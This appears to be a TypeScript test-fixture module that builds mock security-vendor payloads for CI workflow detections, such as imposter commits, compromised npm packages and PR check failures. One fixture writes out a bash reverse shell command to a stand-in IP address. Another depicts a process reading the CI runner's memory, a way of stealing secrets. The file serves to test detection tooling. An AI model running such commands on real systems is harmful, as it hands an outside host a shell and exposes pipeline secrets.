/** Where and when a detection of the story happened. */
export interface Place {
  /** UTC, to the minute or second: `2026-03-12T08:03Z`. */
  readonly at: string;
  readonly repo: string;
  readonly run: string;
  readonly job?: string;
}

/** A payload in the vendor's shape: the members that every detection of a run has, and those of its kind. */
export function payload(id: string, { at, repo, run, job }: Place, own: object): Record<string, unknown> {
  const seconds = String(Date.parse(at) / 1_000);
  return {
    id,
    type: id,
    event_id: `${id}-${repo}-${run}-${seconds}`,
    name: id.replaceAll('-', ' '),
    owner: 'acme',
    repo,
    owner_repo: `acme/${repo}`,
    workflow_path: '.github/workflows/release.yml',
    run_id: run,
    ...(job !== undefined && { job, job_id: `${run}1` }),
    timestamp: seconds,
    detection: `${id}-${run}`,
    html_url: `https://app.stepsecurity.io/github/acme/${repo}/actions/runs/${run}`,
    is_suppressed: false,
    is_resolved: false,
    ...own,
  };
}

/** The details of a run, which say who started it. */
export function runDetails(repo: string, run: string, login: string): object {
  return {
    id: run,
    owner: 'acme',
    repo: `acme/${repo}`,
    name: 'Release',
    head_branch: 'main',
    head_sha: 'da39a3ee5e6b4b0d3255bfef95601890afd80709',
    path: '.github/workflows/release.yml',
    jobs: [],
    workflow_run_actor_login: login,
  };
}

const DIGEST = '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08';
export const COMMIT = 'c96c327cecdb71e8f031080ba8ad208feb25b13d';

export const imposter = {
  imposter_commit: { action: 'acme-labs/deploy', tag: 'v3', sha: COMMIT, is_imposter_commit: true },
};

export const memoryRead = {
  process_events: [
    {
      pid: '2301',
      exe: '/usr/bin/python3.12',
      timestamp: '2026-03-12T08:03:00Z',
      armour_event_process: {
        armour_event_kind: 'FILE_READ',
        file_info: {
          is_write: false,
          current_pid: 2301,
          target_file: '/proc/1844/mem',
          target_exe: 'Runner.Worker',
        },
      },
    },
  ],
  tool: { name: 'python3.12', sha256: DIGEST, parent: 'bash' },
};

export const reverseShell = {
  process_events: [
    {
      pid: '4021',
      exe: '/usr/bin/bash',
      arguments: ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1'],
      timestamp: '2026-03-12T09:00:00Z',
    },
  ],
};

export const incident = (at: string, id: string, active: 'true' | 'false'): Record<string, unknown> => ({
  type: 'Threat-Intelligence',
  id,
  incident_start_time: String(Date.parse(at) / 1_000),
  title: `Compromised npm package: ${id}`,
  ecosystem: 'npm',
  severity: 'CRITICAL',
  package_name: id,
  incident_url: `https://app.stepsecurity.io/threat-center/incidents/${id}`,
  is_active: active,
});

export function check(type: string, { at, repo }: Pick<Place, 'at' | 'repo'>): Record<string, unknown> {
  return {
    id: `pr_check_failure_${type}`,
    event_id: `${type}-${repo}-${at}`,
    type: 'pr_check_failure',
    check_type: type,
    check_name: type.replaceAll('-', ' '),
    owner: 'acme',
    repo,
    pr_url: `https://github.com/acme/${repo}/pull/12`,
    check_run_id: 77,
    checks_url: `https://github.com/acme/${repo}/runs/77`,
    head_sha: 'def789ghi012345',
    timestamp: at,
    failure_data: [],
  };
}
